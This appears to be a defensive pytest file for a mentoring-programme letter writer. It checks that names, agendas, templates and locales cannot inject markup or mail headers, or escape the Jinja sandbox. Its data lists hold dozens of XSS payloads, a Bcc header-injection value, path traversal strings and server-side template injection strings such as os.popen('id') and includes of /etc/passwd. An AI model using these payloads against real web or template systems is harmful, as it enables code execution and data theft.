"""What participants and operators write into letters cannot turn them into something else."""

import re
import time
from dataclasses import replace
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from letter_samples import (
    AGENDA,
    DECEMBER,
    JANUARY,
    MARGARET,
    NOVEMBER,
    PRIYA,
    PROGRAMME,
    SUMMARY,
    TOPIC,
    letter,
    load,
    session,
)

from rmflow.domain.letter import LetterKind
from rmflow.domain.people import Role
from rmflow.domain.programme import BUILT_IN_CADENCES, SummaryMode
from rmflow.domain.reason import Cause, Reason
from rmflow.errors import ConfigError
from rmflow.formats.letters.writer import ItemFacts, LetterFacts, LetterWriter, SessionChange
from rmflow.formats.letters.written import Written

HOSTILE = [
    "{{7*7}}",
    "{% for x in range(9999999) %}x{% endfor %}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "'a'*10**9",
    "**bold** <mallory@evil.example>",
    "# Heading",
    "- item",
    "? **Label**:",
    "    quoted",
    "name\r\nBcc: mallory@evil.example",
    "=?utf-8?q?encoded?=",
    "abc\u202edcba\u2066x",
    "\ue02a\ue02abold\ue02a\ue02a",
    "&lt;b&gt; &amp; ]]> <!-- ",
    "\x00\x1b[31m",
]
# What browsers and webmails have been made to run (PITFALLS H21).
XSS = [
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<img src=x:alert(1) onerror=eval(src)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<javascript:alert(1)>",
    "<a@b.example?subject=x&body=<script>>",
    "<data:text/html;base64,PHNjcmlwdD4=>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<style>@import'//evil.example/x.css';</style>",
    "<p style=background:url(javascript:alert(1))>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "</td></tr></table><form action=//evil.example><input name=p>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "{{constructor.constructor('alert(1)')()}}",
]


class _Tags(HTMLParser):
    """Collects what a browser would see: tags and attributes, and the text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[str] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "br":  # a line of somebody's words is a line
            return
        self.seen += [tag, *(name for name, _ in attrs if name != "style")]

    def handle_data(self, data: str) -> None:
        self.text += data


def prompt_with(words: str) -> Written:
    return letter(
        LetterKind.PROMPT,
        Role.MENTOR,
        session=NOVEMBER,
        partner=replace(MARGARET, name=words),
        location=words,
        agenda=words,
        takeaways=words,
        promises=(words,),
    )


def update_with(words: str) -> Written:
    causes = (Cause.DAY_OFF, Cause.DECLINED, Cause.PROPOSED, Cause.NEW_PLACE)
    because = tuple(Reason(cause, words) for cause in causes)
    return letter(LetterKind.UPDATE, changes=(MOVED,), location=words, because=because)


@pytest.mark.parametrize("words", [*HOSTILE, *XSS])
def test_words_of_participants_add_no_markup(words: str) -> None:
    """PITFALLS 4.3: participant text is data, in every place it can stand in."""
    tags, harmless = _Tags(prompt_with(words).html), _Tags(prompt_with("words").html)
    assert tags.seen == harmless.seen
    assert "49" not in prompt_with(words).text.replace("2026", "")


@pytest.mark.parametrize("words", [*HOSTILE, *XSS])
def test_names_and_places_in_a_reason_add_no_markup(words: str) -> None:
    """PITFALLS 4.3: a break is named by the operator, a place by whoever keeps the roster."""
    tags, harmless = _Tags(update_with(words).html), _Tags(update_with("words").html)
    assert tags.seen == harmless.seen
    assert "49" not in update_with(words).text.replace("2026", "")


def test_markup_in_a_name_is_shown_as_it_was_written() -> None:
    """Nothing is lost: a name with a star is still that name."""
    written = prompt_with("**Zoë** <Z> & Co")
    assert "**Zoë** <Z> & Co" in written.text
    assert "**Zoë** <Z> & Co" in _Tags(written.html).text


@pytest.mark.parametrize("words", HOSTILE)
def test_a_subject_is_one_line_and_no_encoded_word(words: str) -> None:
    """PITFALLS 4.2, header injection out: no control, no bidi mark, no `=?`."""
    subject = prompt_with(words).subject
    assert subject.isprintable()
    assert "=?" not in subject
    assert len(subject) <= 78


def test_long_words_are_cut() -> None:
    """A mail stays a mail, whatever was pasted into an agenda."""
    written = letter(
        LetterKind.PROMPT,
        session=NOVEMBER,
        agenda="word " * 2_000_000,
        takeaways="line\n" * 100_000,
        promises=("x" * 10_000,) * 1_000,
        location="y" * 1_000_000,
    )
    assert len(written.text) < 8_000
    assert len(written.html.encode()) < 20_000
    assert written.text.count("…") >= 4


def test_a_right_to_left_name_does_not_turn_the_sentence() -> None:
    """O6: Unicode isolates (UAX #9) in the text, bdi in HTML, neither in the subject."""
    written = prompt_with("שרה לוי")
    assert "\u2068שרה לוי\u2069" in written.text
    assert "<bdi>שרה לוי</bdi>" in written.html
    assert "שרה לוי" in written.subject
    assert "\u2068" not in written.subject


def test_templates_never_see_the_salt() -> None:
    """A template is the operator's; the salt that makes our keys unguessable is nobody's."""
    written = writer_of("Subject: x\n\n{{ programme }}").write(facts())
    assert "pepper" not in written.text
    with pytest.raises(ConfigError, match="salt"):
        writer_of("Subject: x\n\n{{ programme.salt }}").write(facts())


@pytest.mark.parametrize(
    ("source", "problem"),
    [
        ("Subject: x\n\n{{ nonsense }}", "'nonsense' is undefined"),
        ("Subject: x\n\n{{ item.session }}", "a value is missing here"),
        ("Subject: x\n\n{% if %}", "correct the template"),
        ("Subject: x\n\n{{ 'a' * 10 ** 9 }}", "no use for"),
        ("Subject: x\n\n{{ you.__class__.__mro__ }}", "unsafe"),
        ("Subject: x\n\n{% for i in range(99999) %}some{% endfor %}", "more than 60000"),
        ("Subject: x\n\n{{ you.name | nonsense }}", "No filter named 'nonsense'"),
        ("Subject: x\n\n{% include 'mail/en/nonsense.txt.j2' %}", "this template is missing"),
        ("Subject: x\n\n{{ 1 + you }}", "unsupported operand"),
        ("Hello", "the first line must be"),
        ("Subject:\n\nHello", "the first line must be"),
    ],
)
def test_a_wrong_template_is_named(source: str, problem: str) -> None:
    """Where: what is wrong; what to do."""
    with pytest.raises(ConfigError) as caught:
        writer_of(source).write(facts())
    assert str(caught.value).startswith("templates/mail/en/")
    assert problem in str(caught.value)


_LOOPS = "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"
_DOUBLED = (
    "{% set n = namespace(x='ab') %}{% for i in range(99) %}{% set n.x = n.x ~ n.x %}{% endfor %}"
)


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        (_LOOPS, "it goes on after 20000 steps"),
        ("{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}", "it calls itself without end"),
        ("{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(40) }}", "it goes on after"),
        ("{% include 'mail/en/prompt.txt.j2' %}", "it calls itself without end"),
        (_DOUBLED, "more than 16000000 characters"),
        (_DOUBLED.replace("~", "+"), "more than 16000000 characters"),
        ("{{ you.ljust(1000000000) }}", "unsafe"),
        (_DOUBLED.replace("n.x ~ n.x", "n.x.replace('a', n.x)"), "more than 16000000 characters"),
        ("{{ '{:1000000000}'.format(1) }}", "unsafe"),
        ("{{ you.name | center(1000000000) }}", "No filter named 'center'"),
        ("{{ you.name | safe }}", "No filter named 'safe'"),
        ("{{ lipsum(n=100000) }}", "'lipsum' is undefined"),
        ("{{ range(10) | list + range(9) }}", "can only concatenate list"),
        ("{{ {}['x'].y }}", "has no attribute 'x'"),
        ("{{ {}.popitem() }}", "unsafe"),
        ("{{ 'x'.index('y') }}", "substring not found"),
    ],
)  # fmt: skip
def test_a_template_without_end_or_measure_is_named_with_its_line(body: str, problem: str) -> None:
    """PITFALLS 4.3: limits of output and time; quickly, and never by an exception of Python's."""
    started = time.process_time()
    with pytest.raises(ConfigError) as caught:
        writer_of(f"Subject: x\n\nHello\n{body}\n").write(facts())
    assert time.process_time() - started < 2
    assert str(caught.value).startswith("templates/mail/en/prompt.txt.j2, line 4: ")
    assert problem in str(caught.value)


SSTI = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ you.__init__.__globals__ }}",
    "{{ ().__class__.__base__ }}",
    "{{ self.__init__.__globals__.__builtins__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ range.__class__ }}",
    "{{ you|attr('__class__') }}",
    "{{ [you]|map(attribute='__class__')|list }}",
    "{{ [you]|map('attr', '__class__')|list }}",
    "{{ [you]|selectattr('__class__')|list }}",
    "{{ [you]|groupby('__class__') }}",
    "{{ ['{0.__class__}']|map('format', you)|list }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(you) }}",
    "{{ '{x.__class__}'.format_map({'x': you}) }}",
    "{% set f = '{0.__class__}'.format %}{{ f(you) }}",
    "{{ you.name.__class__.format('{0.__class__}', you) }}",
    "{{ you.salutation.__func__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ config }}",
    "{{ request.application }}",
    "{{ (you, you).__len__() }}",
    "{% import 'os' as os %}{{ os }}",
    "{% include '../../../etc/passwd' %}",
    "{% include '/etc/passwd' %}",
    "{% extends '../layout.html.j2' %}",
    "{{ url_for.__globals__ }}",
    "{{ (lambda: 1)() }}",
    "{{ eval('1') }}",
    "{{ __import__('os') }}",
]


@pytest.mark.parametrize("body", SSTI)
def test_a_template_cannot_get_at_python_or_at_files(body: str) -> None:
    """PITFALLS H20: CVE-2024-56201, CVE-2024-56326 (`format` by detours), CVE-2025-27516 (`attr`)."""
    try:
        written = writer_of(f"Subject: x\n\n{body}\n").write(facts())
    except ConfigError:
        return
    assert not re.search(r"class|object at|module|function|root:|__|\[<", written.text)


def test_a_missing_template_is_named() -> None:
    with pytest.raises(ConfigError, match=r"templates/mail/en/prompt\.txt\.j2: .*missing"):
        LetterWriter(lambda _: None).write(facts())


@pytest.mark.parametrize("locale", ["../../etc", "xx", "", "tlh-KLINGON", "e", "en\n"])
def test_an_unknown_language_is_written_in_the_programmes(locale: str) -> None:
    """A locale is a cell of the roster: it never becomes a path, and never stops a letter."""
    asked: list[str] = []

    def listening(name: str) -> str | None:
        asked.append(name)
        return load(name)

    german = replace(facts(), programme=replace(PROGRAMME, language="de"))
    reader = replace(MARGARET, locale=locale)
    written = LetterWriter(listening).write(replace(german, recipient=reader))
    assert written.subject.startswith("Ihr nächstes Treffen")
    assert all(re.fullmatch(r"mail/([a-z]+/[a-z_-]+\.txt|layout\.html)\.j2", n) for n in asked)


def test_an_operators_language_needs_only_templates() -> None:
    """A folder of templates adds a language, right to left included."""
    sources = {
        "mail/ar/prompt.txt.j2": "Subject: موعد\n\n{{ item.session.here.day }}",
        "mail/ar/footer.txt.j2": "{{ reference }}",
    }
    writer = LetterWriter(lambda name: sources.get(name) or load(name))
    reader = replace(MARGARET, locale="ar-EG")
    item = ItemFacts(Role.MENTEE, PRIYA, "", session=NOVEMBER)
    written = writer.write(LetterFacts(PROGRAMME, LetterKind.PROMPT, reader, (item,), "r"))
    assert '<html lang="ar-EG" dir="rtl">' in written.html
    assert "نوفمبر" in written.text


def test_templates_are_read_once() -> None:
    """A thousand letters compile each template once."""
    read: list[str] = []

    def counting(name: str) -> str | None:
        read.append(name)
        return load(name)

    writer = LetterWriter(counting)
    for _ in range(3):
        writer.write(facts())
    assert sorted(read) == sorted(set(read))


def writer_of(source: str) -> LetterWriter:
    return LetterWriter(lambda name: source if "prompt" in name else load(name))


def facts() -> LetterFacts:
    item = ItemFacts(Role.MENTEE, PRIYA, "")
    return LetterFacts(PROGRAMME, LetterKind.PROMPT, MARGARET, (item,), "r1")


def optional(value: object, empty: object) -> st.SearchStrategy[object]:
    return st.sampled_from([value, empty])


MOVED = SessionChange(NOVEMBER, session(1, "2026-11-05T23:30"))
FACTS = st.fixed_dictionaries(
    {
        "location": optional("Studio 3", ""),
        "session": optional(NOVEMBER, None),
        "sessions": st.sampled_from([(), (NOVEMBER,), (NOVEMBER, DECEMBER, JANUARY)]),
        "cadence": st.sampled_from([None, *BUILT_IN_CADENCES.values()]),
        "changes": st.sampled_from(
            [(), (MOVED,), (SessionChange(DECEMBER, None),), (MOVED, SessionChange(DECEMBER, None))]
        ),
        "because": st.lists(st.builds(Reason, st.sampled_from(Cause), st.just("Priya"))).map(tuple),
        "topic": optional(TOPIC, None),
        "agenda": optional("How do you decide?\n\n\nReally?", ""),
        "takeaways": optional("Ask first.", ""),
        "promises": optional(("Sit in on a stand-up", "Ask"), ()),
        "form": st.sampled_from([SUMMARY, AGENDA, None]),
        "answers": optional({"met": "in May", "takeaways": "Ask.", "worthwhile": "4"}, {}),
        "last": st.booleans(),
        "partner": st.sampled_from(
            [PRIYA, replace(PRIYA, timezone="UTC"), replace(PRIYA, timezone="Asia/Tokyo")]
        ),
    }
)


@settings(max_examples=300, deadline=None)
@given(
    kind=st.sampled_from(LetterKind),
    role=st.sampled_from(Role),
    locale=st.sampled_from(["en", "en-US", "de", "fr-CA"]),
    mode=st.sampled_from(SummaryMode),
    copies=st.integers(1, 3),
    some=FACTS,
)
def test_every_letter_is_whole_whatever_is_left_out(
    *,
    kind: LetterKind,
    role: Role,
    locale: str,
    mode: SummaryMode,
    copies: int,
    some: dict[str, Any],
) -> None:
    """Empty facts leave no hole: no None, no gap, no line of a lonely label or mark."""
    programme = replace(PROGRAMME, summaries=mode, objective="To learn." if copies == 2 else "")
    written = letter(kind, role, locale=locale, programme=programme, copies=copies, **some)
    assert len(written.subject) <= 78
    assert "None" not in written.text + written.html
    assert "Undefined" not in written.text
    assert "\n\n\n" not in written.text
    assert not re.search(r"[ \t]$|\( | \)| [.,]|\*\*|\.\.|  \S", prose_of(written), re.MULTILINE)
    assert all(len(line) <= 100 for line in written.text.splitlines())
    assert written.text.endswith("p3f2a91-3\n")
    assert not re.search("[\ue000-\uf8ff]", written.subject + written.text + written.html)


def prose_of(written: Written) -> str:
    """The text without the quoted words and the indents of lists."""
    lines = written.text.splitlines()
    return "\n".join(line.removeprefix("  ") for line in lines if not line.startswith("    "))
